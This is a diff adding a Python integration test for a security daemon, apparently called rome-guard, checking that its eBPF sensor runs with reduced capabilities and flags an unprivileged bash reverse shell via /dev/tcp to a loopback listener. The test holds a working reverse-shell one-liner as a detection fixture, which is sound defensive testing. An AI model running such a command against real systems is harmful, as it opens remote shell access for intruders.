@@ -13,6 +13,7 @@ import ctypes.util
 import json
 import os
 import shutil
+import signal
 import subprocess
 import sys
 import uuid
@@ -208,3 +209,59 @@ def test_unit_syscall_filter_includes_what_bcc_needs():
     allowed = unit_syscall_allowlist()
     assert {"bpf", "perf_event_open", "pidfd_open", "pidfd_send_signal", "kill"} <= allowed
     assert not {"mount", "umount2", "init_module", "finit_module", "reboot"} & allowed
+
+
+# --- the daemon itself, with only the unit's capabilities -------------------------
+
+
+def test_the_daemon_detects_with_only_the_units_capabilities():
+    """`rome-guard run --sensor ebpf` under capsh with the unit's set: the
+    eBPF sensor starts (no fallback to polling), and a reverse shell run by
+    another user is seen through its /proc/PID/fd (CAP_DAC_READ_SEARCH and
+    CAP_SYS_PTRACE) and counted in the metrics."""
+    require_root()
+    require(shutil.which("capsh") is not None, "capsh not installed")
+    caps = unit_capabilities()
+    require(caps <= bounding_set(), f"this host lacks some of {sorted(caps)}")
+    import urllib.request
+
+    from tests.fixtures.daemon import Daemon, by_pid
+    from tests.fixtures.network import listener, wait_until
+
+    drop = ",".join(sorted(bounding_set() - caps))
+    guard = Daemon(wrapper=("capsh", f"--drop={drop}", "--", "-c", 'exec "$0" "$@"'))
+    try:
+        guard.wait_ready()
+        with open(f"/proc/{guard.proc.pid}/status") as f:
+            effective = next(line for line in f if line.startswith("CapEff:")).split()[1]
+        assert int(effective, 16).bit_count() == len(caps)  # capsh did drop the rest
+
+        with listener("127.0.6.7", 0) as attacker:
+            shell = subprocess.Popen(
+                ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
+                 "bash", "-c", f"bash -i >& /dev/tcp/127.0.6.7/{attacker.port} 0>&1"],
+                stderr=subprocess.DEVNULL, start_new_session=True,
+            )  # fmt: skip
+            try:
+                wait_until(lambda: attacker.accepted)
+                guard.wait_alert(by_pid(shell.pid, "shell-dev-tcp-redirect"))
+                stdio = guard.wait_alert(
+                    lambda r: (
+                        r["rule"] == "shell-stdio-socket"
+                        and r.get("network", {}).get("daddr") == "127.0.6.7"
+                    )
+                )
+                assert stdio["process"]["uid"] == 65534
+            finally:
+                os.killpg(shell.pid, signal.SIGKILL)
+                shell.wait()
+
+        url = f"http://127.0.0.1:{guard.metrics_port}/metrics"
+        with urllib.request.urlopen(url, timeout=30) as resp:
+            body = resp.read().decode()
+        assert 'rome_guard_sensor_info{mode="ebpf"} 1.0' in body
+        assert 'action="alert",category="reverse_shell",rule="shell-stdio-socket"' in body
+    finally:
+        status = guard.stop()
+    assert status == 0, guard.log[-3000:]
+    assert "DEGRADED" not in guard.log and "Traceback" not in guard.log, guard.log[-3000:]
